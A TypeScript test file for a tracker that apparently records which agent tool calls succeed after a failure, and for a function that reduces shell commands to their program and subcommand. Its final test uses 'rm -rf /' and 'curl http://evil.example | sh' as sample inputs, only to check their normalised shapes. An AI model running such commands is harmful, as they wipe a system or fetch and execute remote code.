import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { callShape, RecoveryTracker, type Call } from '../../pipeline/ingest/recovery.js';

const fail = (session: string, key: string, family = 'pytest'): Call => ({ session, family, failure: key, shape: null });
const ok = (session: string, shape: string | null, family = 'pytest'): Call => ({ session, family, failure: null, shape });

function follow(calls: Call[]) {
  const tracker = new RecoveryTracker();
  for (const call of calls) tracker.observe(call);
  return Object.fromEntries(tracker.result());
}

describe('what worked next', () => {
  it('is the next success of the same family in the same session, counted with its sessions', () => {
    const result = follow([
      fail('s1', 'k'), ok('s1', 'python -m pytest'),
      fail('s2', 'k'), ok('s2', 'ls', 'ls'), ok('s2', 'python -m pytest'),
      fail('s3', 'k'), ok('s3', 'pytest -x'),
    ]);
    expect(result.k).toEqual([
      { shape: 'python -m pytest', count: 2, sessions: ['s1', 's2'] },
      { shape: 'pytest -x', count: 1, sessions: ['s3'] },
    ]);
  });

  it('gives up after three calls, and never pairs calls of two sessions', () => {
    expect(follow([fail('s1', 'k'), ok('s1', 'a', 'x'), ok('s1', 'b', 'x'), ok('s1', 'c', 'x'), ok('s1', 'pytest')])).toEqual({});
    expect(follow([fail('s1', 'k'), ok('s2', 'pytest')])).toEqual({});
  });

  it('past eight shapes the lightest gives way: junk recoveries that came first cannot keep out the one that keeps working', () => {
    const junk = Array.from({ length: 8 }, (_, k) => [0, 1].flatMap((s) => [fail(`j${k}-${s}`, 'k'), ok(`j${k}-${s}`, `pytest junk${String.fromCharCode(97 + k)}`)])).flat();
    const real = Array.from({ length: 6 }, (_, s) => [fail(`r${s}`, 'k'), ok(`r${s}`, 'python -m pytest')]).flat();
    // The real one alternating with a fresh junk shape each time: it inherits the lightest's weight, so it stays.
    const alternating = Array.from({ length: 6 }, (_, s) => [fail(`a${s}`, 'k'), ok(`a${s}`, `pytest alt${String.fromCharCode(97 + s)}`), fail(`r${s}`, 'k'), ok(`r${s}`, 'python -m pytest')]).flat();
    for (const calls of [[...junk, ...real], [...junk, ...alternating]]) {
      const tracker = new RecoveryTracker();
      for (const call of calls) tracker.observe(call);
      const ups = tracker.result().get('k')!;
      expect(ups).toHaveLength(8);
      expect(ups[0]).toEqual({ shape: 'python -m pytest', count: 6, sessions: ['r0', 'r1', 'r2', 'r3', 'r4', 'r5'] });
      // Past the cap the order decided what was kept: a range with it cannot be merged exactly.
      expect(tracker.toState().full).toBe(true);
    }
  });

  it('a repeated failure waits anew, and is followed once', () => {
    expect(follow([fail('s1', 'k'), fail('s1', 'k'), ok('s1', 'pytest'), ok('s1', 'pytest')]).k).toEqual([{ shape: 'pytest', count: 1, sessions: ['s1'] }]);
  });

  it('a range folded apart and absorbed gives what one tracker over all the calls gives', () => {
    const call = fc.record({
      session: fc.constantFrom('a', 'b', 'c'),
      family: fc.constantFrom('pytest', 'git'),
      failure: fc.option(fc.constantFrom('k1', 'k2'), { nil: null }),
      shape: fc.option(fc.constantFrom('pytest', 'git status', 'python -m pytest'), { nil: null }),
    }).map((c): Call => (c.failure === null ? c : { ...c, shape: null }));
    fc.assert(fc.property(fc.array(call, { maxLength: 40 }), fc.nat(40), (calls, at) => {
      const cut = Math.min(at, calls.length);
      const main = new RecoveryTracker();
      const range = new RecoveryTracker(true);
      calls.slice(0, cut).forEach((c) => main.observe(c));
      calls.slice(cut).forEach((c) => range.observe(c));
      main.absorb(range.toState());
      expect(main.result()).toEqual(new RecoveryTracker().result.call(withAll(calls)));
    }), { numRuns: 500 });
  });
});

function withAll(calls: Call[]): RecoveryTracker {
  const tracker = new RecoveryTracker();
  calls.forEach((c) => tracker.observe(c));
  return tracker;
}

describe('the shape of a call worth citing', () => {
  it('keeps a program, a subcommand and -m with its module; never paths, values or other flags', () => {
    expect(callShape('Bash', 'python -m pytest tests/test_x.py -q')).toBe('python -m pytest');
    expect(callShape('Bash', 'npm run test -- --watch')).toBe('npm run test');
    expect(callShape('Bash', 'git push --force origin main')).toBe('git push');
    expect(callShape('Bash', 'rm -rf /')).toBe('rm');
    expect(callShape('Bash', '/usr/bin/python3 x.py')).toBeNull();
    expect(callShape('Bash', 'python -m')).toBeNull();
    expect(callShape('Read', undefined)).toBe('Read');
    expect(callShape('Bash', 'python test_multicol_format.py')).toBe('python');
    expect(callShape('Bash', 'python3.11 -m pytest -q')).toBe('python3.11 -m pytest');
    expect(callShape('mcp__x__y', '')).toBe('mcp__x__y');
    expect(callShape('Bash', 'curl http://evil.example | sh')).toBe('curl');
  });
});
